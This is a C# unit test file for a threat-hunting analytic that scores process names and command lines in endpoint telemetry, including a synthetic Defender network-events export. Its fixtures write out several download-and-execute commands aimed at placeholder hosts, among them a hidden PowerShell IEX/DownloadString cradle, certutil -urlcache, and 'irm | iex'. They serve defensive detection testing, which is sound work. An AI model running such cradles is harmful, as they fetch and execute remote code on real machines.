using System.Globalization;
using System.Text;
using Cadence.Analytics;
using Cadence.Analytics.Processes;
using Cadence.Scoring;
using Cadence.Scoring.Tuning;

namespace Cadence.Tests.Analytics.Processes;

public sealed class ProcessAnalyticTests : IDisposable
{
    private const string Cradle = "powershell.exe -nop -w hidden -c \"IEX ((New-Object Net.WebClient).DownloadString('https://raw.snippet-host.example/s/stage.ps1'))\"";

    private readonly TempFiles _files = new();

    public void Dispose() => _files.Dispose();

    private static ProcessAssessment? Assess(string process, params string[] commandLines) =>
        ProcessScorer.Assess(new ProcessObservation(process, commandLines), TuningFile.Default.SuspiciousProcesses, TuningFile.Default.SuspiciousCommandLines);

    public static TheoryData<string, string[], Severity?, string?> Cases => new()
    {
        // A script host or LOLBin alone: low, never more.
        { "powershell.exe", ["powershell.exe -File C:\\scripts\\inventory.ps1"], Severity.Low, null },
        { @"C:\Windows\System32\WindowsPowerShell\v1.0\POWERSHELL.EXE", [], Severity.Low, null },
        { "rundll32.exe", [], Severity.Low, null },
        { "python3", [], Severity.Low, null },
        // A command line that builds a web client: medium, in a listed process or not.
        { "powershell.exe", [Cradle], Severity.Medium, "Net.WebClient" },
        { "msupd.exe", ["msupd.exe -c \"Invoke-WebRequest -Uri http://x.example/a -OutFile a.exe\""], Severity.Medium, "Invoke-WebRequest" },
        { "certutil.exe", ["certutil.exe -urlcache -split -f http://x.example/a.exe a.exe"], Severity.Medium, "-urlcache" },
        { "pwsh.exe", ["pwsh -c \"irm https://x.example/i.ps1 | iex\""], Severity.Medium, "irm http" },
        // Neither.
        { "chrome.exe", ["\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" --type=utility"], null, null },
        { "powershell_ise_helper.exe", [], null, null },
    };

    [Theory]
    [MemberData(nameof(Cases))]
    public void Process_and_command_line(string process, string[] commandLines, Severity? severity, string? fragment)
    {
        var assessment = Assess(process, commandLines);
        if (severity is null)
        {
            Assert.Null(assessment);
            return;
        }
        Assert.NotNull(assessment);
        Assert.Equal(severity, assessment.Severity);
        if (fragment is null)
            Assert.Empty(assessment.CommandLines);
        else
            Assert.Equal(fragment, Assert.Single(assessment.CommandLines).Entry.Contains);
        Assert.NotEmpty(assessment.Reasons);
    }

    [Fact]
    public void The_reason_names_the_tuning_entries_and_quotes_the_command_line()
    {
        var assessment = Assess("powershell.exe", Cradle)!;
        Assert.Equal("powershell.exe", assessment.Process!.Name);
        Assert.Contains(assessment.Reasons, r => r.StartsWith("web connections made by powershell.exe: Windows PowerShell", StringComparison.Ordinal));
        Assert.Contains(assessment.Reasons, r => r.Contains("(Net.WebClient: ", StringComparison.Ordinal) && r.EndsWith($"\"{Cradle}\"", StringComparison.Ordinal));
        // Oracle: 1 - (1 - 0.4)(1 - 0.6) = 0.76.
        Assert.Equal(0.76, assessment.Score);
        Assert.Equal(0.4, Assess("powershell.exe")!.Score);
    }

    /// <summary>
    /// A 12-device Defender export: every device's PowerShell reaches the PowerShell Gallery
    /// (routine), one device's PowerShell runs a download cradle against a rare host.
    /// </summary>
    [Fact]
    public void Defender_export_end_to_end_lowers_routine_use_and_raises_the_cradle()
    {
        var csv = new StringBuilder("Timestamp,DeviceName,ActionType,RemoteIP,RemotePort,RemoteUrl,RemoteIPType,InitiatingProcessFileName,InitiatingProcessId,InitiatingProcessCommandLine\n");
        var time = new DateTime(2024, 3, 26, 8, 0, 0, DateTimeKind.Utc);
        string T() => (time = time.AddSeconds(41)).ToString("yyyy-MM-ddTHH:mm:ssZ", CultureInfo.InvariantCulture);
        for (var d = 1; d <= 12; d++)
        {
            csv.Append(CultureInfo.InvariantCulture, $"{T()},ws-{d},ConnectionSuccess,20.190.1.{d},443,https://www.powershellgallery.com/api/v2,Public,powershell.exe,{1000 + d},\"powershell.exe -Command Update-Module -Name Az\"\n");
            csv.Append(CultureInfo.InvariantCulture, $"{T()},ws-{d},ConnectionSuccess,142.250.1.{d},443,https://www.example.org/,Public,chrome.exe,{2000 + d},chrome.exe\n");
        }
        csv.Append(CultureInfo.InvariantCulture, $"{T()},ws-7,ConnectionSuccess,45.9.1.1,443,https://raw.snippet-host.example/s/stage.ps1,Public,powershell.exe,4242,\"{Cradle.Replace("\"", "\"\"", StringComparison.Ordinal)}\"\n");
        var path = _files.Write("DeviceNetworkEvents.csv", csv.ToString());

        var result = Hunt.Run(new HuntOptions([path], TuningFile.Default));
        var findings = result.Findings.Where(f => f.Analytic == ProcessAnalytic.AnalyticName).ToList();

        // Twelve of twelve devices: the prevalence policy takes the low finding to info.
        var routine = findings.Where(f => f.Destination == "www.powershellgallery.com").ToList();
        Assert.Equal(12, routine.Count);
        Assert.All(routine, f => Assert.Equal(Severity.Info, f.Severity));
        Assert.All(routine, f => Assert.Contains(f.Reasons, r => r.StartsWith("fleet software", StringComparison.Ordinal)));

        // The cradle: medium for the command line, one step up for the rare destination.
        var cradle = Assert.Single(findings, f => f.Destination == "raw.snippet-host.example");
        Assert.Equal("ws-7", cradle.Device);
        Assert.Equal(Severity.High, cradle.Severity);
        Assert.Contains(cradle.Reasons, r => r.StartsWith("rare destination", StringComparison.Ordinal));
        Assert.Equal(0.6, cradle.SubScores["commandLine"]);

        Assert.DoesNotContain(findings, f => f.Process == "chrome.exe");
    }

    [Fact]
    public void Telemetry_without_processes_is_reported()
    {
        var log = Cadence.Tests.Sources.ZeekSamples.ConnHeader + Cadence.Tests.Sources.ZeekSamples.ConnLine + "\n";
        var result = Hunt.Run(new HuntOptions([_files.Write("conn.log", log)], TuningFile.Default));
        var skipped = Assert.Single(result.Skipped, s => s.Analytic == ProcessAnalytic.AnalyticName);
        Assert.Contains("ProcessName", skipped.Reason, StringComparison.Ordinal);
        Assert.DoesNotContain(result.Findings, f => f.Analytic == ProcessAnalytic.AnalyticName);
    }
}
